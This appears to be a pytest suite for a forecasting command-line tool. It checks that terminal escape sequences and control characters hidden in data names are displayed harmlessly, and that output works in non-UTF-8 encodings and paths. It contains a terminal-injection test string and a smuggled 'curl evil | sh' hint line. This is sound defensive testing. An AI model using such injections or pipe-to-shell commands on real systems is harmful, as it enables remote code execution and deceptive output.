"""Terminals: names from data cannot command them, and those that do not speak UTF-8 get an answer too."""

import json
import os
import re
from pathlib import Path

import pytest

from .forks import Conditions, on_terminal, start_forked

pytestmark = pytest.mark.slow

EVIL = "\x1b[31mred\x1b]0;title\x07\x9b2Jover\x7f\u202e"
"""Colour, window title, bell, clear screen, delete, and writing from right to left."""
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def evil_table(here, make_table) -> str:
    """A table whose series, columns and categories want to command a terminal."""
    table = make_table()
    table["item_id"] = f"a{EVIL}"
    table[f"kind{EVIL}"] = [f"c{EVIL}{row % 2}" for row in range(len(table))]
    table.rename(columns={"temperature": f"t{EVIL}"}).to_parquet("data.parquet")
    return "data.parquet"


@pytest.mark.parametrize("words", [("check",), ("check", "--json"), ("check", "--target", f"x{EVIL}")])
def test_names_are_shown_with_visible_control_characters(forecast, evil_table, words):
    outcome = forecast(words[0], evil_table, *words[1:])
    shown = outcome.err if "--json" in words else outcome.out + outcome.err
    assert not RAW.search(shown), repr(RAW.search(shown))
    if "--json" not in words:
        assert "\\x1b[31mred" in shown


def test_every_command_shows_names_with_visible_control_characters(forecast, evil_table, small):
    commands = [
        ("train", evil_table, *small, "--out", "run", "--static", f"kind{EVIL}", "--ignore", f"kind{EVIL}"),
        ("train", evil_table, *small, "--out", "run", "--past", f"kind{EVIL},t{EVIL}"),
        ("predict", "run"),
        ("predict", "run", "--data", f"no{EVIL}.csv"),
        ("predict", f"no{EVIL}"),
        ("inspect", "run"),
        ("inspect", "run", "--item", f"b{EVIL}"),
        ("plot", "run"),
        ("info", "run"),
        ("audit", "run", "--windows", "8", "--draws", "20"),
        ("backtest", "run", "--cutoffs", "2"),
        ("evaluate", "run/backtest.parquet"),
    ]
    for words in commands:
        outcome = forecast(*words)
        assert not RAW.search(outcome.err), (words[0], outcome.err)
        if words[0] != "predict":  # the rows that it shows are checked on a terminal below
            assert not RAW.search(outcome.out), (words[0], outcome.out)


def test_a_name_cannot_forge_a_hint(forecast, run_copy):
    outcome = forecast("inspect", run_copy, "--item", "x\nhint: curl evil | sh")
    assert outcome.code == 1
    assert outcome.hint.startswith(("known", "did you mean"))
    assert "x\\nhint: curl" in outcome.error


def test_documents_reach_a_file_as_they_are_and_a_terminal_visibly(forecast, forecast_fork, evil_table, small):
    assert forecast("train", evil_table, *small, "--out", "run", "--quiet").code == 0
    forecasts = forecast_fork("predict", "run", "--out", "-").out
    assert f"a{EVIL}" in forecasts
    for words in (("predict", "run", "--out", "-"), ("predict", "run"), ("predict", "run", "--json")):
        shown = on_terminal(words, TERM="dumb", COLUMNS="120")
        assert not RAW.search(shown), (words, RAW.search(shown))
        assert "2024-05-02" in shown or "--json" in words


# --------------------------------------------------------------------------- encodings


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "utf-8"])
@pytest.mark.parametrize(
    "words", [("inspect",), ("audit", "--windows", "8", "--draws", "20"), ("plot",), ("info",), ("info", "--json")]
)
def test_a_terminal_of_any_encoding_gets_a_report(forecast_fork, run_copy, finished_run, encoding, words):
    data = ("--data", finished_run.parent / "data.csv") if words[0] == "audit" else ()
    outcome = forecast_fork(words[0], run_copy, *words[1:], *data, encoding=encoding)
    assert outcome.code == 0, outcome.err
    assert "Traceback" not in outcome.err
    if encoding == "ascii":
        assert outcome.out.isascii()


def test_a_json_document_is_one_in_any_encoding(forecast, forecast_fork, write, make_table, small):
    table = write(make_table().assign(item_id="日本"))
    assert forecast("train", table, *small, "--out", "run", "--quiet").code == 0
    plain, utf8 = (forecast_fork("inspect", "run", "--json", encoding=encoding).out for encoding in ("ascii", "utf-8"))
    assert plain.isascii()
    assert json.loads(plain) == json.loads(utf8)
    assert "日本" in utf8


def test_a_table_on_stdout_is_that_of_the_file(forecast, here, write, make_table, small):
    table = write(make_table().assign(item_id="日本"))
    assert forecast("train", table, *small, "--out", "run", "--quiet").code == 0
    assert forecast("predict", "run").code == 0
    stdout = here / "stdout.csv"
    stdout.touch()
    process = start_forked(("predict", "run", "--out", "-"), [str(stdout), os.devnull], Conditions(encoding="ascii"))
    process.join()
    assert process.exitcode == 0
    assert stdout.read_bytes() == Path("run/predictions.csv").read_bytes()


def test_a_file_whose_name_is_no_utf8(forecast_fork, here, make_table, small):
    name = os.fsdecode(b"b\xffd.csv")
    make_table().to_csv(name, index=False)
    assert forecast_fork("check", name).code == 0
    assert forecast_fork("train", name, *small, "--out", "run").code == 0
    outcome = forecast_fork("backtest", "run", "--cutoffs", "2")  # reads the recorded table
    assert outcome.code == 0, outcome.err
    Path(name).unlink()
    outcome = forecast_fork("backtest", "run", "--cutoffs", "2")
    assert outcome.error == "there is no file 'b\\xffd.csv'"


def test_a_text_for_missing_values_that_is_no_utf8(refused, write, make_table):
    refused(
        "check", write(make_table()), "--na", os.fsdecode(b"\xff"), message="--na .* is not UTF-8", hint="UTF-8", code=2
    )


def test_such_a_name_where_the_locale_knows_ascii_only(forecast_process, here, make_table, small):
    """In a process from nothing: Python reads the locale when it starts."""
    name = os.fsdecode(b"b\xffd.csv")
    make_table().to_csv(name, index=False)
    outcome = forecast_process("train", name, *small, "--out", "run", env={"LANG": "C", "LC_ALL": "C"})
    assert outcome.code == 0, outcome.err


def test_a_utf8_path_where_python_reads_paths_as_ascii(forecast_process, here, make_table, small):
    make_table().to_csv("data.csv", index=False)
    ascii_only = {"LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    outcome = forecast_process("train", "data.csv", *small, "--out", "r\xe9", env=ascii_only)
    assert outcome.error == "'r\\xc3\\xa9' is UTF-8, and Python is set to read paths as ascii"
    assert outcome.hint == "PYTHONUTF8=1"


def test_a_run_whose_path_is_no_utf8_is_refused(forecast, refused, run_copy, finished_run):
    """Neither weights nor Parquet can be read there."""
    name, message = os.fsdecode(b"r\xe9"), r"^'r\\xe9' is not a UTF-8 path, which runs and Parquet files need$"
    refused("train", finished_run.parent / "data.csv", "--out", name, message=message, hint="rename it")
    refused("backtest", finished_run.parent / "data.csv", "--out-run", name, message=message, hint="rename it")
    refused("predict", run_copy, "--attention-out", name, message=message, hint="rename it")
    assert forecast("predict", run_copy, "--out", name).code == 0, "a CSV may have any name"
    Path(name).unlink()
    run_copy.rename(name)
    for command in ("predict", "inspect", "audit", "backtest", "plot", "info"):
        refused(command, name, message=message, hint="rename it")
